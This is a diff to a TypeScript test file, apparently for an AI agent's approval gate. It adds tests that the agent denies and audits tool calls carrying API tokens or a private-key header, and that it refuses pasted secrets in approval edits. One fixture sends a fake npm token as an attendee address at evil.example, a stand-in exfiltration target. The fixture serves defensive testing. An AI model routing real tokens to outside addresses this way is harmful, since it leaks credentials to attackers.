@@ -81,7 +81,36 @@ describe('what was approved', () => {
   })
 })
 
+const KEYS = ['ghp_', 'npm_'].map((begin) => `${begin}aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z56`)
+const PEM = ['-----BEGIN', 'PRIVATE KEY-----'].join(' ')
+
+describe('a question whose card would hide a part of the bytes (F-03)', () => {
+  it.each([
+    ['a key in a title', { title: `pay ${KEYS[0]} now` }],
+    ['a key that is a destination', { title: 'Lunch', attendees: [`${KEYS[1]}@evil.example`] }],
+    ['the head of a private key, which hides all that follows', { title: PEM }],
+    ['a key with blanks in it', { title: `pay ${KEYS[0]?.slice(0, 9)} ${KEYS[0]?.slice(9)}` }],
+  ])('is not put: %s', async (_name, args) => {
+    const world = worldWith({ models: [planning(READING, booking(args, 's2'))] })
+    const task = await world.say('do the unusual thing')
+    expect(await waiting(world)).toEqual([])
+    expect(created(world)).toEqual([])
+    expect(auditedAs(world, 'denial').map(({ code }) => code)).toContain('secret_in_call')
+    expect((await world.shell.report(task))?.task.state).toBe('completed')
+    expect(JSON.stringify(world.audited)).not.toContain('aB3dE5')
+  })
+})
+
 describe('other words for it (F-11)', () => {
+  it('are screened for what was pasted, as any message is (L-17)', async () => {
+    const world = worldWith({ models: [planning(READING, booking(FROM_MAIL, 's2'))] })
+    await world.say('do the unusual thing')
+    const { id } = await onlyOne(world)
+    const edit = { approval: id, text: `use ${KEYS[0]}`, principal: OWNER, place: 'home' } as const
+    expect(await world.shell.edit(edit)).toEqual({ ok: false, reason: { code: 'secret_pasted', facts: {} } })
+    expect((await onlyOne(world)).id).toBe(id)
+  })
+
   it('are the owner’s own, shown on a new card, and spend the old one', async () => {
     const world = worldWith({ models: [planning(READING, booking(FROM_MAIL, 's2'))] })
     const task = await world.say('do the unusual thing')
